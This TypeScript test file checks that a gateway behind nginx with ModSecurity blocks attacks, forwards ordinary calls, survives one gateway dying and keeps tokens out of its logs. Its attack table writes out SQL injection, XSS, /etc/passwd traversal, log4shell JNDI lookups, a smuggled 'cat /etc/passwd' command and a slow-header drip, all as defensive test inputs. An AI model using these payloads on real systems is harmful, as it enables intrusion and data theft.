/** The gateway behind a web application firewall, as examples/waf has it: attacks end there, calls do not, and one gateway may die. */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { connect as connectTls } from 'node:tls';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { caller, together } from './support/call.ts';
import { freePort } from './support/free-port.ts';
import { copyExample, describeWith, endPrograms, exampleText, type Program, startProgram } from './support/program.ts';
import { type RecordingService, recordingService } from './support/recording-service.ts';
import { type Reply, type SendOptions, send } from './support/send.ts';
import { sendHttp2 } from './support/send-http2.ts';
import { endServers, type Server, STARTS_MS, startServer } from './support/server.ts';
import { until } from './support/until.ts';

const NEEDED = [
  'nginx',
  'openssl',
  '/usr/lib/nginx/modules/ngx_http_modsecurity_module.so',
  '/usr/share/modsecurity-crs/rules',
];

const ROUTES = `
  - name: near
    match: { path: /near }
    ip: { allow: [127.0.0.2/32] }
    upstream: http://127.0.0.1:9000
  - name: limited
    match: { path: /limited }
    limits: [{ limit: 1, window: 3600 }]
    upstream: http://127.0.0.1:9000
`;

describeWith(NEEDED, 'two gateways behind nginx with ModSecurity', () => {
  let service: RecordingService;
  let gateways: [Server, Server];
  let folder: string;
  let port: number;
  let waf: Program;
  let tls: { readonly ca: string; readonly servername: string };
  let token: string;
  let config: string;

  beforeAll(async () => {
    service = await recordingService();
    config = (exampleText('waf/tessera.yaml') + ROUTES).replaceAll('127.0.0.1:9000', `127.0.0.1:${service.port}`);
    const first = await startServer({ config });
    // It dies, and comes back to its port.
    const env = { TESSERA_GATEWAY_PORT: String(await freePort()) };
    const second = await startServer({ config, data: first.data, rootToken: first.rootToken, env });
    gateways = [first, second];
    port = await freePort();
    folder = copyExample('waf', {
      '127.0.0.1:8443': `127.0.0.1:${port}`,
      '127.0.0.1:8421': new URL(first.gateway).host,
      '127.0.0.1:8431': new URL(second.gateway).host,
    });
    const command = /^openssl .*$/m.exec(exampleText('waf/README.md'))?.[0] ?? '';
    execFileSync('sh', ['-c', command], { cwd: folder, stdio: 'ignore' });
    waf = await startProgram('nginx', { args: ['-p', folder, '-c', join(folder, 'nginx.conf')], folder, port });
    tls = { ca: readFileSync(join(folder, 'certificate.pem'), 'utf8'), servername: 'localhost' };
    token = (await caller(first, first.rootToken).mint({ scopes: ['orders:read'] })).token;
  }, STARTS_MS);
  beforeEach(() => {
    service.received.length = 0;
  });
  afterAll(async () => {
    await endPrograms();
    await endServers();
    service.close();
  });

  const ask = (target: string, { headers, ...more }: SendOptions = {}): Promise<Reply> =>
    send(`https://127.0.0.1:${port}`, target, {
      tls,
      headers: { Host: 'localhost', 'User-Agent': 'test', Accept: '*/*', Authorization: `Bearer ${token}`, ...headers },
      ...more,
    });
  const json = { 'Content-Type': 'application/json' };
  const posted = (value: unknown, headers = json): SendOptions => {
    const body = JSON.stringify(value);
    return { method: 'POST', body, headers: { ...headers, 'Content-Length': String(Buffer.byteLength(body)) } };
  };

  const attacks: Readonly<Record<string, readonly [target: string, options?: SendOptions]>> = {
    'SQL injection in the query': ["/orders/attack?id=1%27%20OR%20%271%27=%271'--"],
    'SQL injection in JSON': ['/orders/attack', posted({ a: { b: ["1' UNION SELECT password FROM users--"] } })],
    'SQL injection in JSON of another name': [
      '/orders/attack',
      posted({ a: "1' UNION SELECT password FROM users--" }, { 'Content-Type': 'application/merge-patch+json' }),
    ],
    'SQL injection in a cookie': ['/orders/attack', { headers: { Cookie: "a=1' UNION SELECT password FROM users--" } }],
    'cross-site scripting': ['/orders/attack?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'],
    'cross-site scripting in JSON': ['/orders/attack', posted({ comment: '<img src=x onerror=alert(1)>' })],
    'a file of the system': ['/orders/attack?file=../../../../etc/passwd'],
    'log4shell in a header field': [
      '/orders/attack',
      { headers: { 'X-Name': '$'.concat('{jndi:ldap://198.51.100.1/a}') } },
    ],
    'log4shell in the query': ['/orders/attack?x=$%7Bjndi:ldap://198.51.100.1/a%7D'],
    'a command': ['/orders/attack?host=;cat%20/etc/passwd'],
    'a scanner': ['/orders/attack', { headers: { 'User-Agent': 'sqlmap/1.7#stable (https://sqlmap.org)' } }],
    'a method that no API has': ['/orders/attack', { method: 'PROPFIND' }],
  };
  it.each(Object.entries(attacks))('end at the firewall: %s', async (_name, [target, options]) => {
    const answer = await ask(target, options);
    expect([answer.status, answer.headers['x-served']]).toEqual([403, undefined]);
    expect(answer.text).toContain('<center>nginx</center>');
  });

  it('have no gateway hear of an attack', async () => {
    expect((await ask('/orders/..%2f..%2f..%2fattack')).status).toBe(400);
    for (const server of gateways) {
      await fetch(`${server.gateway}/orders/after-them`);
      await server.printed(/"path":"\/orders\/after-them"/);
      expect(server.stderr()).not.toContain('attack');
    }
    expect(service.received).toEqual([]);
  });

  it('refuses a body that is not what it says, and one that is too long', async () => {
    const broken = { method: 'POST', body: '{"a":', headers: { ...json, 'Content-Length': '5' } };
    expect((await ask('/orders/1', broken)).status).toBe(400);
    const long = 'x'.repeat(1_048_577);
    const tooLong = {
      method: 'POST',
      body: long,
      headers: { 'Content-Type': 'text/plain', 'Content-Length': String(long.length) },
    };
    expect((await ask('/orders/1', tooLong)).status).toBe(413);
    expect(service.received).toEqual([]);
  });

  const calls: Readonly<Record<string, readonly [target: string, options?: SendOptions]>> = {
    GET: ['/orders/1?sort=-created&filter%5Bstate%5D=open'],
    HEAD: ['/orders/1', { method: 'HEAD' }],
    'POST of JSON': [
      '/orders/',
      posted({ name: "Siobhan O'Brien", note: 'a < b & c > d; 100 % "fine"', price: 12.5, tags: ['a', 'b'] }),
    ],
    'PUT of JSON': ['/orders/1', { ...posted({ name: 'select one of the items from the list' }), method: 'PUT' }],
    'PATCH of a merge patch': [
      '/orders/1',
      { ...posted({ state: null }, { 'Content-Type': 'application/merge-patch+json' }), method: 'PATCH' },
    ],
    DELETE: ['/orders/1', { method: 'DELETE' }],
    'POST of bytes': [
      '/orders/',
      {
        method: 'POST',
        body: 'anything',
        headers: { 'Content-Type': 'application/octet-stream', 'Content-Length': '8' },
      },
    ],
  };
  it.each(Object.entries(calls))('let an ordinary call pass: %s', async (_name, [target, options]) => {
    expect((await ask(target, options)).status).toBe(200);
    const [received] = service.received;
    expect([received?.method, received?.target]).toEqual([options?.method ?? 'GET', target]);
    expect(String(received?.body)).toBe(String(options?.body ?? ''));
  });

  it('pass the answers of the gateway on as they are', async () => {
    const missing = await ask('/orders/1', { headers: { Authorization: [] } });
    expect([missing.status, missing.headers['www-authenticate']]).toEqual([401, 'Bearer']);
    expect(JSON.parse(missing.text)).toMatchObject({ code: 'missing' });
    const answers = [await ask('/limited'), await ask('/limited'), await ask('/limited')];
    // Each gateway counts for itself.
    const limited = answers.find(({ status }) => status !== 200) ?? missing;
    expect([limited.status, JSON.parse(limited.text).code]).toEqual([429, 'rate_limited']);
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(60);
    const denied = await ask('/near');
    expect([denied.status, JSON.parse(denied.text).code]).toEqual([403, 'ip_denied']);
    expect(service.received.map(({ target }) => target)).not.toContain('/near');
  });

  it('know the client by the address of its connection, whatever it says', async () => {
    expect((await ask('/near', { from: '127.0.0.2' })).status).toBe(200);
    const fields = new Map(service.received[0]?.fields);
    expect(fields.get('x-forwarded-for')).toMatch(/^127\.0\.0\.2(?:, 127\.0\.0\.1)?$/);
    expect(fields.get('x-forwarded-proto')).toBe('https');
    const claims = { 'X-Forwarded-For': '127.0.0.2', Forwarded: 'for=127.0.0.2', 'X-Real-IP': '127.0.0.2' };
    expect((await ask('/near', { from: '127.0.0.3', headers: claims })).status).toBe(403);
    expect(service.received).toHaveLength(1);
  });

  it('speak HTTP/2', async () => {
    const headers = {
      ':authority': 'localhost',
      'user-agent': 'test',
      accept: '*/*',
      authorization: `Bearer ${token}`,
    };
    expect(await sendHttp2(`https://127.0.0.1:${port}`, { ':path': '/orders/2', ...headers }, tls)).toBe(200);
    expect(service.received[0]?.target).toBe('/orders/2');
  });

  it('are not held by who sends a header slowly: nginx cuts it', async () => {
    const socket = connectTls({ host: '127.0.0.1', port, ...tls });
    socket.on('error', () => {});
    const closed = new Promise<void>((resolve) => void socket.once('close', () => resolve()));
    socket.write('GET /orders/1 HTTP/1.1\r\nHost: localhost\r\n');
    const drip = setInterval(() => socket.write('X-A: b\r\n'), 1000);
    const start = performance.now();
    await closed.finally(() => clearInterval(drip));
    expect(performance.now() - start).toBeLessThan(30_000);
    expect(service.received).toEqual([]);
  });

  it('both work, and the death of one costs no request', async () => {
    const [first, second] = gateways;
    const before = gateways.map((server) => server.stderr().length);
    const statuses: number[] = [];
    const call = async (index: number): Promise<void> => {
      if (index === 60) await second.kill();
      statuses.push((await ask(`/orders/${index}`)).status);
    };
    let next = 0;
    await together(6, async () => {
      while (next < 240) await call(next++);
    });
    expect(new Set(statuses)).toEqual(new Set([200]));
    expect(statuses).toHaveLength(240);
    // Both were asked, as long as there were two.
    for (const [at, server] of gateways.entries()) expect(server.stderr().slice(before[at])).toContain('"msg":"call"');
    // Nor of those that may not be repeated: none was reached.
    const posts = await together(20, () => ask('/orders/1', posted({ a: 1 })));
    expect(posts.map(({ status }) => status)).toEqual(posts.map(() => 200));

    const port = new URL(second.gateway).port;
    const again = await startServer({
      config,
      data: first.data,
      rootToken: first.rootToken,
      env: { TESSERA_GATEWAY_PORT: port },
    });
    gateways = [first, again];
    await until(
      () => ask('/orders/1').then(() => again.stderr()),
      (log) => log.includes('"msg":"call"'),
      30_000,
    );
  });

  it('leave no token in any log', async () => {
    const injected = await ask(`/orders/1?x=1'%20UNION%20SELECT%20password%20FROM%20users--&access_token=${token}`, {
      headers: { 'X-API-Key': token, Authorization: `Bearer ${token}' UNION SELECT password FROM users--` },
    });
    expect(injected.status).toBe(403);
    const logs = ['access.log', 'modsec_audit.log'].map((name) => join(folder, name));
    for (const log of logs) expect(existsSync(log)).toBe(true);
    const written = async (): Promise<string> => logs.map((log) => readFileSync(log, 'utf8')).join('') + waf.output();
    // The line of the call is there, and the firewall says why.
    const text = await until(written, (log) => log.includes('"GET /orders/1" 403') && log.includes('SQL Injection'));
    // Neither the answer nor a token is.
    expect(text).not.toContain('<html>');
    expect(text).not.toContain(token);
  });
});
